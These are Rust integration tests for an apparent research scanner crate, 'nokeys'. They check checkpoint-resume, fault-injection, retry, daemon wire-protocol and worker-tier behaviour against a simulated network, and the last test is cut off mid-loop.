    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let (baseline, baseline_snap) =
        run_plain(&universe, universe_config.space, 8, 0.0, None).await;

    // Budgets spanning "died before any checkpoint" through "died deep
    // into the scan"; parallelism 1 and 8 must converge to the same
    // bytes either way.
    for (parallelism, budget) in [(1, 2_000u64), (8, 1u64), (8, 2_000), (8, 20_000)] {
        let path = checkpoint_path(&format!("kill-p{parallelism}-b{budget}"));
        let (resumed, resumed_snap) = run_killed_then_resumed(
            &universe,
            universe_config.space,
            parallelism,
            0.0,
            budget,
            &path,
        )
        .await;
        assert_eq!(
            report_json(&baseline),
            report_json(&resumed),
            "resumed report diverged (p{parallelism}, budget {budget})"
        );
        assert_eq!(
            baseline_snap.to_json(),
            resumed_snap.to_json(),
            "resumed telemetry diverged (p{parallelism}, budget {budget})"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn killed_and_resumed_scan_survives_fault_injection() {
    let universe_config = UniverseConfig::tiny(7);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let (baseline, baseline_snap) =
        run_plain(&universe, universe_config.space, 8, 0.05, None).await;

    for budget in [3_000u64, 15_000] {
        let path = checkpoint_path(&format!("faulty-kill-b{budget}"));
        let (resumed, resumed_snap) = run_killed_then_resumed(
            &universe,
            universe_config.space,
            8,
            0.05,
            budget,
            &path,
        )
        .await;
        assert_eq!(
            report_json(&baseline),
            report_json(&resumed),
            "fault-injected resumed report diverged (budget {budget})"
        );
        assert_eq!(
            baseline_snap.to_json(),
            resumed_snap.to_json(),
            "fault-injected resumed telemetry diverged (budget {budget})"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn warm_resume_of_a_finished_scan_touches_no_network() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let path = checkpoint_path("warm");
    let _ = std::fs::remove_file(&path);
    let (finished, finished_snap) = run_plain(
        &universe,
        universe_config.space,
        8,
        0.0,
        Some(&path),
    )
    .await;

    // A zero-op budget: any network operation would wedge the resume
    // forever, so completing at all proves the report came from disk.
    let switch = KillSwitch::after(0);
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(universe_config.space, 8, &telemetry, Some(&path)));
    let client = Client::new(KillableTransport::new(
        transport(&universe, 0.0),
        switch.clone(),
    ));
    let report = tokio::time::timeout(
        std::time::Duration::from_secs(30),
        pipeline.resume(&client, &path),
    )
    .await
    .expect("warm resume must not touch the network")
    .expect("warm resume failed");
    let _ = std::fs::remove_file(&path);

    assert_eq!(switch.used(), 0, "warm resume performed network operations");
    assert_eq!(report_json(&finished), report_json(&report));
    assert_eq!(finished_snap.to_json(), telemetry.snapshot().to_json());
}

/// Incremental observer reconciliation: observing 14 days and then
/// extending to 28 via `observe_incremental` must agree everywhere with
/// a single 28-day observation — terminally-offline hosts are skipped
/// (their timelines go ragged), but offline is permanent in the
/// lifecycle model, so the ragged tail reads back as exactly what the
/// full run recorded.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn incremental_rescan_reconciles_with_a_full_observation() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));

    // One scan to get the vulnerable population.
    let transport = SimTransport::new(Arc::clone(&universe));
    let client = Client::new(transport.clone());
    let pipeline = Pipeline::new(PipelineConfig::builder(vec![universe_config.space]).build());
    let report = pipeline.run(&client).await.expect("scan failed");
    let vulnerable: Vec<_> = report.vulnerable_findings().cloned().collect();
    assert!(!vulnerable.is_empty());

    let full_config = ObserverConfig {
        interval_secs: 86_400,
        window_secs: 28 * 86_400,
        terminal_offline_after: 2,
        ..ObserverConfig::default()
    };
    let half_config = ObserverConfig {
        window_secs: 14 * 86_400,
        ..full_config.clone()
    };

    let full = observe_instrumented(
        &Telemetry::new(),
        &client,
        &vulnerable,
        &full_config,
        wire_observer_clock(&transport),
    )
    .await;

    let prior = observe_instrumented(
        &Telemetry::new(),
        &client,
        &vulnerable,
        &half_config,
        wire_observer_clock(&transport),
    )
    .await;
    let telemetry = Telemetry::new();
    let (extended, delta) = observe_incremental(
        &telemetry,
        &client,
        prior,
        &full_config,
        wire_observer_clock(&transport),
    )
    .await;

    assert_eq!(extended.times_secs, full.times_secs);
    assert_eq!(delta.rounds, 14);
    assert_eq!(
        delta.skipped + delta.reprobed,
        14 * vulnerable.len() as u64,
        "every (round, host) pair is either skipped or re-probed"
    );
    assert!(delta.skipped > 0, "some host must have gone terminally offline");
    assert!(
        delta.fingerprints_reused > 0,
        "unchanged hosts must reuse their fingerprints"
    );

    // Observed prefixes agree status for status; the skipped tail of a
    // ragged timeline is Offline in the full run.
    for (inc, full_tl) in extended.timelines.iter().zip(&full.timelines) {
        assert_eq!(inc.finding.endpoint, full_tl.finding.endpoint);
        let n = inc.statuses.len();
        assert_eq!(inc.statuses[..], full_tl.statuses[..n]);
        for &status in &full_tl.statuses[n..] {
            assert_eq!(status, ObservedStatus::Offline);
        }
    }

    // Which makes every per-round census identical.
    for t in 0..full.times_secs.len() {
        assert_eq!(extended.counts_at(t), full.counts_at(t));
    }

    // The rescan counters mirror the delta report.
    let snap = telemetry.snapshot();
    assert_eq!(snap.counter("observer.rescan.skipped"), delta.skipped);
    assert_eq!(snap.counter("observer.rescan.reprobed"), delta.reprobed);
    assert_eq!(
        snap.counter("observer.rescan.refingerprinted"),
        delta.refingerprinted
    );
    assert_eq!(delta.transitions.len() as u64, snap.counter("observer.transitions"));
}
