//! Pipeline resilience under transient network faults (the paper's
//! "False negatives" limitation: "we missed hosts that were unresponsive
//! [or] temporarily unavailable").

use nokeys::netsim::{SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig};
use std::sync::Arc;

#[tokio::test]
async fn pipeline_survives_a_flaky_network() {
    let config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(config.clone()));

    // 15% of connect attempts time out.
    let flaky = SimTransport::new(Arc::clone(&universe)).with_fault_injection(0.15);
    let client = nokeys::http::Client::new(flaky);
    let pipeline = Pipeline::new(PipelineConfig::builder(vec![config.space]).build());
    let flaky_report = pipeline.run(&client).await.expect("flaky run failed");

    let clean = SimTransport::new(universe);
    let client = nokeys::http::Client::new(clean);
    let clean_report = pipeline.run(&client).await.expect("clean run failed");

    // No panics, no false positives — every flaky finding also exists in
    // the clean run with the same verdict (faults only *lose* hosts;
    // plugins never confirm a MAV they could not verify).
    for f in &flaky_report.findings {
        let clean_f = clean_report
            .findings
            .iter()
            .find(|c| c.endpoint.ip == f.endpoint.ip && c.app == f.app)
            .unwrap_or_else(|| panic!("{} appeared only under faults", f.endpoint));
        // A vulnerable verdict under faults must be real. (The converse
        // is allowed: a fault during verification downgrades a host.)
        if f.vulnerable {
            assert!(
                clean_f.vulnerable,
                "{} false positive under faults",
                f.endpoint
            );
        }
    }

    // Losses stay proportionate to the fault rate.
    let lost = clean_report.total_hosts() - flaky_report.total_hosts();
    let loss_rate = lost as f64 / clean_report.total_hosts() as f64;
    assert!(
        loss_rate < 0.5,
        "15% connect faults should not lose half the hosts ({lost} lost)"
    );
}

#[tokio::test]
async fn faults_are_deterministic_per_transport() {
    let config = UniverseConfig::tiny(9);
    let universe = Arc::new(Universe::generate(config.clone()));
    let pipeline = Pipeline::new(PipelineConfig::builder(vec![config.space]).build());

    let run = |u: Arc<Universe>| async {
        let t = SimTransport::new(u).with_fault_injection(0.3);
        let client = nokeys::http::Client::new(t);
        pipeline.run(&client).await.expect("pipeline failed")
    };
    let a = run(Arc::clone(&universe)).await;
    let b = run(universe).await;
    assert_eq!(a.total_hosts(), b.total_hosts());
    assert_eq!(a.total_mavs(), b.total_mavs());
}

#[tokio::test]
async fn rescanning_recovers_fault_losses() {
    // The paper's batching rationale: hosts missed transiently can be
    // found by a later pass. A second scan over the same flaky transport
    // hits a different fault pattern (each endpoint's attempt ordinal
    // keeps advancing across passes), so the union recovers most hosts.
    // Retries are capped at 2 so each individual pass still loses a
    // visible slice of hosts — this test exercises *rescanning* as the
    // recovery mechanism, not the retry layer.
    let config = UniverseConfig::tiny(11);
    let universe = Arc::new(Universe::generate(config.clone()));
    let flaky = SimTransport::new(Arc::clone(&universe)).with_fault_injection(0.25);
    let client = nokeys::http::Client::new(flaky);
    let pipeline = Pipeline::new(
        PipelineConfig::builder(vec![config.space])
            .retries(2)
            .build(),
    );

    let first = pipeline.run(&client).await.expect("first pass failed");
    let second = pipeline.run(&client).await.expect("second pass failed");
    let union: std::collections::BTreeSet<(std::net::Ipv4Addr, nokeys::apps::AppId)> = first
        .findings
        .iter()
        .chain(second.findings.iter())
        .map(|f| (f.endpoint.ip, f.app))
        .collect();

    let clean = SimTransport::new(universe);
    let clean_client = nokeys::http::Client::new(clean);
    let clean_report = pipeline.run(&clean_client).await.expect("clean run failed");

    assert!(union.len() > first.findings.len().min(second.findings.len()));
    let coverage = union.len() as f64 / clean_report.total_hosts() as f64;
    assert!(
        coverage > 0.85,
        "two passes should recover most hosts ({coverage:.2})"
    );
}
