//! Error-path coverage for the `nokeys-scand` NDJSON wire protocol,
//! driving the real binary over its stdin/stdout pipes: malformed
//! input, operations on unknown jobs, illegal state transitions
//! (pause twice, resume an unpaused job), and subscribing to an
//! already-terminal job must each produce one structured error (or
//! ack) line and leave the command stream — and the single writer task
//! behind it — fully usable for the next command.

use nokeys::scanner::prelude::{Command, JobSpec, ScanSpec};
use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, Command as Process, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError};
use std::time::Duration;

/// The daemon under test, with a reader thread so a wedged writer
/// fails the test by timeout instead of hanging it forever.
struct Daemon {
    child: Child,
    stdin: ChildStdin,
    lines: Receiver<String>,
}

impl Daemon {
    fn spawn(args: &[&str]) -> Daemon {
        let mut child = Process::new(env!("CARGO_BIN_EXE_nokeys-scand"))
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn nokeys-scand");
        let stdin = child.stdin.take().expect("piped stdin");
        let stdout = child.stdout.take().expect("piped stdout");
        let (tx, lines) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        Daemon {
            child,
            stdin,
            lines,
        }
    }

    fn send(&mut self, line: &str) {
        writeln!(self.stdin, "{line}").expect("daemon stdin open");
        self.stdin.flush().expect("daemon stdin flushes");
    }

    fn send_command(&mut self, command: &Command) {
        let line = serde_json::to_string(command).expect("commands serialize");
        self.send(&line);
    }

    /// Next reply line that is not a streamed `event`, as JSON.
    fn recv(&mut self) -> serde_json::Value {
        loop {
            let line = match self.lines.recv_timeout(Duration::from_secs(60)) {
                Ok(line) => line,
                Err(RecvTimeoutError::Timeout) => panic!("daemon reply timed out: writer wedged?"),
                Err(RecvTimeoutError::Disconnected) => panic!("daemon closed stdout early"),
            };
            let value: serde_json::Value =
                serde_json::from_str(&line).unwrap_or_else(|e| panic!("bad reply line {line}: {e}"));
            if value["reply"] != "event" {
                return value;
            }
        }
    }

    fn expect_error(&mut self, context: &str) -> String {
        let reply = self.recv();
        assert_eq!(reply["reply"], "error", "{context}: got {reply}");
        let message = reply["message"].as_str().unwrap_or_default().to_string();
        assert!(!message.is_empty(), "{context}: error without a message");
        message
    }

    fn shutdown(mut self) {
        self.send(r#"{"op":"shutdown"}"#);
        assert_eq!(self.recv()["reply"], "ok", "shutdown must ack");
        let status = self.child.wait().expect("daemon exits");
        assert!(status.success(), "daemon exit status: {status}");
    }
}

/// A scan job whose sweep is empty (loopback is IANA-reserved and the
/// spec keeps the default exclusion), so it terminates immediately
/// without touching the network — a fast way to get a real terminal
/// job inside the daemon.
fn instant_job() -> Command {
    let scan = ScanSpec::new(vec!["127.0.0.1/32".parse().expect("cidr")]);
    Command::Submit {
        spec: Box::new(JobSpec::scan("wire-test", scan)),
    }
}

#[test]
fn malformed_and_unknown_job_commands_each_error_once() {
    let mut daemon = Daemon::spawn(&[]);

    daemon.send("this is not json");
    daemon.expect_error("malformed line");

    daemon.send(r#"{"op":"no_such_op"}"#);
    daemon.expect_error("unknown op");

    // Valid JSON, wrong shape: an op that needs a job id without one.
    daemon.send(r#"{"op":"status"}"#);
    daemon.expect_error("status without job id");

    for op in ["status", "pause", "resume", "cancel", "subscribe"] {
        daemon.send(&format!(r#"{{"op":"{op}","job":12345}}"#));
        let message = daemon.expect_error(&format!("{op} on unknown job"));
        assert!(
            message.contains("12345") || message.to_lowercase().contains("unknown"),
            "{op}: error should name the unknown job: {message}"
        );
    }

    // The stream survived six consecutive errors: a real command still
    // gets its reply.
    daemon.send(r#"{"op":"jobs"}"#);
    let reply = daemon.recv();
    assert_eq!(reply["reply"], "jobs");
    assert_eq!(reply["jobs"], serde_json::json!([]));

    daemon.shutdown();
}

#[test]
fn illegal_transitions_on_a_terminal_job_error_and_stream_stays_usable() {
    let mut daemon = Daemon::spawn(&[]);

    daemon.send_command(&instant_job());
    let submitted = daemon.recv();
    assert_eq!(submitted["reply"], "submitted", "got {submitted}");
    let job = submitted["job"].as_u64().expect("job id");

    // Poll to terminal (the empty sweep finishes in one dispatch).
    let mut state = String::new();
    for _ in 0..600 {
        daemon.send(&format!(r#"{{"op":"status","job":{job}}}"#));
        let reply = daemon.recv();
        assert_eq!(reply["reply"], "status", "got {reply}");
        state = reply["status"]["state"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        if !matches!(state.as_str(), "queued" | "running") {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(state, "completed", "empty-sweep job must complete");

    // Pause twice: both attempts fail (the job is not running), each
    // with its own structured error, and neither wedges the writer.
    for attempt in 1..=2 {
        daemon.send(&format!(r#"{{"op":"pause","job":{job}}}"#));
        daemon.expect_error(&format!("pause attempt {attempt} on a completed job"));
    }

    // Resume a job that was never paused.
    daemon.send(&format!(r#"{{"op":"resume","job":{job}}}"#));
    daemon.expect_error("resume on an unpaused (completed) job");

    // Subscribing after completion acks instead of parking a forwarder
    // that would never see a terminal event.
    daemon.send(&format!(r#"{{"op":"subscribe","job":{job}}}"#));
    let reply = daemon.recv();
    assert_eq!(reply["reply"], "ok", "got {reply}");

    // Final proof the writer never wedged: a full metrics round-trip.
    daemon.send(r#"{"op":"metrics"}"#);
    let reply = daemon.recv();
    assert_eq!(reply["reply"], "metrics", "got {reply}");
    assert!(reply["snapshot"].is_object());

    daemon.shutdown();
}
