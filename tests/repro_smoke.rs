//! Smoke test for the `repro` harness: every experiment id regenerates at
//! quick scale and produces non-trivial output.

use nokeys::repro::{Repro, Scale};

#[tokio::test]
async fn every_experiment_regenerates_at_quick_scale() {
    let mut harness = Repro::new(11, Scale::Quick);
    for id in Repro::all_ids() {
        let out = harness
            .run(id)
            .await
            .unwrap_or_else(|e| panic!("{id}: {e}"));
        assert!(out.len() > 100, "{id}: suspiciously short output:\n{out}");
        assert!(out.contains("=="), "{id}: missing table header");
    }
}

#[tokio::test]
async fn unknown_ids_are_rejected() {
    let mut harness = Repro::new(1, Scale::Quick);
    assert!(harness.run("table99").await.is_err());
}

#[tokio::test]
async fn caches_are_reused_across_experiments() {
    let mut harness = Repro::new(2, Scale::Quick);
    let _ = harness.run("table3").await.expect("first run");
    let started = std::time::Instant::now();
    let _ = harness.run("table4").await.expect("reuses the scan");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(2),
        "table4 should reuse the cached scan"
    );
}
