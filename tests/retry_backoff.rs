//! Cross-layer retry/backoff integration: the scanner's
//! [`RetryTransport`] stacked on netsim's fault injection, exercised
//! through the public facade the way the pipeline composes them.

use nokeys::http::{Client, Endpoint, Error, ProbeOutcome, Scheme, Transport};
use nokeys::netsim::{SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig, RetryPolicy, RetryTransport, Telemetry};
use std::sync::Arc;

/// The first few AWE endpoints of the universe that answer plain HTTP,
/// discovered behaviourally through a fault-free transport.
async fn open_http_endpoints(universe: &Arc<Universe>, want: usize) -> Vec<Endpoint> {
    let clean = SimTransport::new(Arc::clone(universe));
    let mut found = Vec::new();
    for host in universe.hosts() {
        let Some((service, _)) = host.awe() else {
            continue;
        };
        let ep = Endpoint::new(host.ip, service.port);
        if clean.probe(ep).await == ProbeOutcome::Open
            && clean.connect(ep, Scheme::Http).await.is_ok()
        {
            found.push(ep);
            if found.len() == want {
                break;
            }
        }
    }
    assert_eq!(found.len(), want, "tiny universe lacks HTTP AWE hosts");
    found
}

/// SYN loss injected at 25% is invisible behind a generous retry
/// budget, and every injected fault shows up as exactly one retry.
#[tokio::test]
async fn retrying_probe_masks_injected_syn_loss() {
    let universe = Arc::new(Universe::generate(UniverseConfig::tiny(3)));
    let ep = open_http_endpoints(&universe, 1).await[0];
    let telemetry = Telemetry::new();
    let faulty = SimTransport::new(Arc::clone(&universe)).with_fault_injection(0.25);
    let t = RetryTransport::new(faulty, RetryPolicy::with_attempts(8), &telemetry);
    for round in 0..40 {
        assert_eq!(t.probe(ep).await, ProbeOutcome::Open, "round {round}");
    }
    let snap = telemetry.snapshot();
    let injected = t.inner().fault_stats().probe_injected();
    assert!(injected > 0, "40 probes at 25% must inject something");
    // Every probe above came back Open, so no budget was exhausted:
    // each injected drop corresponds to exactly one retry.
    assert_eq!(snap.counter("retry.probe.retries"), injected);
    assert_eq!(snap.counter("retry.probe.exhausted"), 0);
    assert!(snap.counter("retry.probe.recovered") > 0);
}

/// A client stacked on the retry transport completes whole fetches
/// through injected connect timeouts.
#[tokio::test]
async fn retrying_client_fetches_through_connect_timeouts() {
    let universe = Arc::new(Universe::generate(UniverseConfig::tiny(3)));
    let ep = open_http_endpoints(&universe, 1).await[0];
    let telemetry = Telemetry::new();
    let faulty = SimTransport::new(Arc::clone(&universe)).with_fault_injection(0.25);
    let client = Client::new(RetryTransport::new(
        faulty,
        RetryPolicy::with_attempts(8),
        &telemetry,
    ));
    for round in 0..20 {
        let fetched = client.get_path(ep, Scheme::Http, "/").await;
        assert!(fetched.is_ok(), "round {round}: {fetched:?}");
    }
    let snap = telemetry.snapshot();
    assert!(snap.counter("retry.connect.retries") > 0);
    assert_eq!(
        snap.counter("retry.connect.exhausted"),
        0,
        "8 attempts at 25% do not exhaust"
    );
    assert!(snap.timings["retry.connect.backoff"].units > 0);
}

/// Two identically-seeded fault stacks draw identical per-endpoint
/// schedules even when their probe calls interleave differently — the
/// property the whole retry stack inherits its parallelism-independence
/// from, checked here all the way up through the telemetry snapshot.
#[tokio::test]
async fn fault_draws_are_order_independent_across_the_retry_stack() {
    let universe = Arc::new(Universe::generate(UniverseConfig::tiny(5)));
    let eps = open_http_endpoints(&universe, 2).await;
    let (a, b) = (eps[0], eps[1]);

    let stack = |u: &Arc<Universe>| {
        let telemetry = Telemetry::new();
        let faulty = SimTransport::new(Arc::clone(u)).with_fault_injection(0.5);
        let t = RetryTransport::new(faulty, RetryPolicy::with_attempts(3), &telemetry);
        (t, telemetry)
    };
    let (t1, tel1) = stack(&universe);
    let (t2, tel2) = stack(&universe);

    // Stack 1: all of a's probes, then all of b's.
    let mut a1 = Vec::new();
    let mut b1 = Vec::new();
    for _ in 0..16 {
        a1.push(t1.probe(a).await);
    }
    for _ in 0..16 {
        b1.push(t1.probe(b).await);
    }
    // Stack 2: strictly interleaved, b first.
    let mut a2 = Vec::new();
    let mut b2 = Vec::new();
    for _ in 0..16 {
        b2.push(t2.probe(b).await);
        a2.push(t2.probe(a).await);
    }

    assert_eq!(a1, a2, "endpoint a's schedule depended on interleaving");
    assert_eq!(b1, b2, "endpoint b's schedule depended on interleaving");
    assert_eq!(
        t1.inner().fault_stats().probe_injected(),
        t2.inner().fault_stats().probe_injected()
    );
    assert_eq!(tel1.snapshot().to_json(), tel2.snapshot().to_json());
}

/// The facade-level contract the retry layer is built on: which errors
/// are worth retrying, and how the policy clamps its budget.
#[test]
fn transient_classification_drives_the_retry_budget() {
    assert!(Error::Timeout.is_transient());
    assert!(Error::UnexpectedEof.is_transient());
    assert!(Error::Io("reset".into()).is_transient());
    assert!(!Error::Connect("refused".into()).is_transient());
    assert!(!Error::Malformed("bad status line").is_transient());
    assert!(RetryPolicy::default().enabled());
    assert!(!RetryPolicy::disabled().enabled());
    assert_eq!(RetryPolicy::with_attempts(0).attempts(), 1);
}

/// `retries(0)` and `retries(1)` both mean "one attempt, no retries" at
/// the pipeline config level, and a retry-less fault-free pipeline still
/// scans clean — the config plumbing does not disturb the report.
#[tokio::test]
async fn pipeline_retry_knob_plumbs_through() {
    let config = UniverseConfig::tiny(8);
    let universe = Arc::new(Universe::generate(config.clone()));
    let run = |retries: u32, u: Arc<Universe>| {
        let space = config.space;
        async move {
            let client = nokeys::http::Client::new(SimTransport::new(u));
            let pipeline = Pipeline::new(
                PipelineConfig::builder(vec![space])
                    .retries(retries)
                    .build(),
            );
            let report = pipeline.run(&client).await.expect("pipeline failed");
            serde_json::to_string(&report).expect("serializes")
        }
    };
    let without = run(1, Arc::clone(&universe)).await;
    let with = run(3, universe).await;
    assert_eq!(without, with, "retries are a no-op on a clean network");
}
