//! The process tier: leasing batch ranges to external `nokeys-worker`
//! processes over the NDJSON pipe must be invisible in the output —
//! report and harness telemetry byte-identical to the in-process
//! sharded engine at any worker count, with fault injection on or off,
//! when a worker is killed mid-scan and respawned, and across a
//! checkpoint written by the *in-process* tier and resumed by the
//! process tier (the shard-file format is shared, so the two tiers'
//! checkpoints are interchangeable).

use nokeys::http::Client;
use nokeys::netsim::{KillSwitch, KillableTransport, SimTransport, Universe, UniverseConfig};
use nokeys::repro::{Repro, Scale};
use nokeys::scanner::prelude::{
    CheckpointPolicy, EngineConfig, JobEngine, JobSpec, ScanSpec, WorkerLaunch, WorkerReply,
    WorkerSpec,
};
use nokeys::scanner::shard::existing_shard_files;
use nokeys::scanner::{Pipeline, Telemetry};
use nokeys::worker::TransportSpec;
use std::io::{BufRead, BufReader, Write};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

const SCAN_TIMEOUT: Duration = Duration::from_secs(300);

fn worker_bin() -> &'static str {
    env!("CARGO_BIN_EXE_nokeys-worker")
}

fn temp_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("nokeys-ptier-{tag}-{}", std::process::id()))
}

/// Report JSON and harness-wide telemetry JSON of one full Repro scan.
async fn repro_bytes(repro: &mut Repro) -> (String, String) {
    let report = {
        let (_, report) = tokio::time::timeout(SCAN_TIMEOUT, repro.scan())
            .await
            .expect("scan timed out");
        serde_json::to_string(report).expect("report serializes")
    };
    (report, repro.telemetry().snapshot().to_json())
}

/// The tentpole guarantee: worker processes are invisible in the
/// output bytes at any count, faults on or off.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn process_tier_is_byte_identical_at_any_worker_count() {
    for (fault_rate, worker_counts) in [(0.0, &[1usize, 2, 3][..]), (0.05, &[2usize, 3][..])] {
        let mut baseline = Repro::new(42, Scale::Quick)
            .with_fault_rate(fault_rate)
            .with_shards(2);
        let (baseline_report, baseline_telemetry) = repro_bytes(&mut baseline).await;

        for &workers in worker_counts {
            let mut tiered = Repro::new(42, Scale::Quick)
                .with_fault_rate(fault_rate)
                .with_workers(workers)
                .with_worker_bin(worker_bin());
            let (report, telemetry) = repro_bytes(&mut tiered).await;
            assert_eq!(
                baseline_report, report,
                "report diverged (workers={workers}, faults {fault_rate})"
            );
            assert_eq!(
                baseline_telemetry, telemetry,
                "telemetry diverged (workers={workers}, faults {fault_rate})"
            );
        }
    }
}

/// Kill a worker mid-scan (it exits(1) right after streaming its first
/// segment) — the coordinator must detect the loss, requeue the
/// unconfirmed tail, respawn, and still produce the baseline bytes.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn killed_worker_is_respawned_and_scan_completes_unchanged() {
    for fault_rate in [0.0, 0.05] {
        let mut baseline = Repro::new(7, Scale::Quick)
            .with_fault_rate(fault_rate)
            .with_shards(2);
        let (baseline_report, baseline_telemetry) = repro_bytes(&mut baseline).await;

        let token = temp_path(&format!("crash-token-{fault_rate}"));
        let _ = std::fs::remove_file(&token);
        let mut tiered = Repro::new(7, Scale::Quick)
            .with_fault_rate(fault_rate)
            .with_workers(2)
            .with_worker_bin(worker_bin())
            .with_worker_args([
                "--crash-after".to_string(),
                "1".to_string(),
                "--crash-token".to_string(),
                token.display().to_string(),
            ]);
        let (report, telemetry) = repro_bytes(&mut tiered).await;
        assert!(
            token.exists(),
            "the crash hook never fired: the recovery path went untested"
        );
        let _ = std::fs::remove_file(&token);
        assert_eq!(
            baseline_report, report,
            "worker loss changed the report (faults {fault_rate})"
        );
        assert_eq!(
            baseline_telemetry, telemetry,
            "worker loss changed the telemetry (faults {fault_rate})"
        );
    }
}

fn quick_scan_spec(shards: usize, workers: Option<usize>) -> ScanSpec {
    let mut scan = ScanSpec::new(vec![UniverseConfig::tiny(42).space]);
    scan.parallelism = Some(8);
    scan.shards = Some(shards);
    scan.retries = Some(3);
    scan.workers = workers;
    scan
}

fn sim_client(universe: &Arc<Universe>) -> Client<SimTransport> {
    Client::new(SimTransport::new(Arc::clone(universe)))
}

/// Checkpoint interop: shard files written by a killed *in-process*
/// sharded run resume to completion under the *process* tier — the
/// two tiers share one checkpoint format and one resume prologue.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn in_process_shard_checkpoint_resumes_under_the_process_tier() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));

    // Uninterrupted engine baseline (in-process shards, no checkpoint).
    let engine = JobEngine::new(sim_client(&universe));
    let outcome = tokio::time::timeout(
        SCAN_TIMEOUT,
        engine
            .submit(JobSpec::scan("interop", quick_scan_spec(4, None)))
            .wait(),
    )
    .await
    .expect("baseline timed out")
    .expect("baseline scan failed");
    let baseline_report =
        serde_json::to_string(outcome.report().expect("scan report")).expect("serializes");
    let baseline_telemetry = outcome.telemetry().to_json();

    // In-process sharded run, killed mid-scan after a transport budget;
    // its crash-safe per-shard checkpoint files stay on disk.
    let path = temp_path("interop.json");
    let _ = std::fs::remove_file(&path);
    for stale in existing_shard_files(&path) {
        let _ = std::fs::remove_file(stale);
    }
    let switch = KillSwitch::after(2_500);
    let doomed = KillableTransport::new(SimTransport::new(Arc::clone(&universe)), switch.clone());
    let config = quick_scan_spec(4, None)
        .to_builder()
        .telemetry(Telemetry::new())
        .checkpoint_path(path.clone())
        .checkpoint_every(2)
        .build();
    let pipeline = Pipeline::new(config);
    let client = Client::new(doomed);
    let mut task = tokio::spawn(async move { pipeline.run(&client).await });
    tokio::select! {
        _ = switch.tripped() => {
            task.abort();
            let _ = task.await;
        }
        result = &mut task => {
            result.expect("pipeline task").expect("pipeline failed");
        }
    }
    assert!(
        path.exists() || !existing_shard_files(&path).is_empty(),
        "the killed run left no checkpoint state to resume from"
    );

    // Resume the same checkpoint through two external workers.
    let launch = WorkerLaunch::new(
        worker_bin(),
        TransportSpec::Sim {
            universe: universe_config,
            fault_rate: 0.0,
            fault_seed: nokeys::netsim::FaultPlan::disabled().seed(),
        }
        .to_value(),
    );
    let engine = JobEngine::with_config(
        sim_client(&universe),
        EngineConfig {
            worker_launch: Some(launch),
            ..EngineConfig::default()
        },
    );
    let mut spec = JobSpec::scan("interop", quick_scan_spec(4, Some(2)));
    spec.checkpoint = CheckpointPolicy::Explicit {
        path: path.clone(),
        every: 2,
        resume: true,
    };
    let outcome = tokio::time::timeout(SCAN_TIMEOUT, engine.submit(spec).wait())
        .await
        .expect("resume timed out")
        .expect("process-tier resume failed");
    let resumed_report =
        serde_json::to_string(outcome.report().expect("scan report")).expect("serializes");
    assert_eq!(
        baseline_report, resumed_report,
        "the process-tier resume diverged from the uninterrupted run"
    );
    assert_eq!(
        baseline_telemetry,
        outcome.telemetry().to_json(),
        "the process-tier resume telemetry diverged"
    );
    let _ = std::fs::remove_file(&path);
    for stale in existing_shard_files(&path) {
        let _ = std::fs::remove_file(stale);
    }
}

/// Drive the worker binary by hand over its pipes: hello handshake,
/// chunked segment streaming in lease order, revoke clamping, and a
/// clean released/shutdown exchange.
#[test]
fn worker_binary_speaks_the_wire_protocol() {
    let spec = WorkerSpec {
        scan: quick_scan_spec(1, None),
        transport: TransportSpec::Sim {
            universe: UniverseConfig::tiny(42),
            fault_rate: 0.0,
            fault_seed: nokeys::netsim::FaultPlan::disabled().seed(),
        }
        .to_value(),
        chunk: 1,
    };
    let mut child = std::process::Command::new(worker_bin())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn nokeys-worker");
    let mut stdin = child.stdin.take().expect("piped stdin");
    let stdout = BufReader::new(child.stdout.take().expect("piped stdout"));
    let mut replies = stdout.lines().map(|line| {
        let line = line.expect("worker stdout");
        WorkerReply::parse(&line).unwrap_or_else(|e| panic!("bad worker line {line}: {e}"))
    });

    writeln!(stdin, "{}", serde_json::to_string(&spec).expect("spec")).expect("write spec");
    let total = match replies.next().expect("hello line") {
        WorkerReply::Hello { total_batches } => total_batches,
        other => panic!("expected hello, got {other:?}"),
    };
    assert!(total >= 4, "tiny universe yields at least 4 batches");

    // Lease [0, 4) and immediately revoke at 2: the worker clamps the
    // lease (never below its cursor) and reports where it stopped.
    writeln!(stdin, r#"{{"op":"lease","lease":1,"start":0,"end":4}}"#).expect("write lease");
    writeln!(stdin, r#"{{"op":"revoke","lease":1,"at":2}}"#).expect("write revoke");
    let mut covered = 0u64;
    let released_at = loop {
        match replies.next().expect("lease stream ended early") {
            WorkerReply::Segment { lease, segment } => {
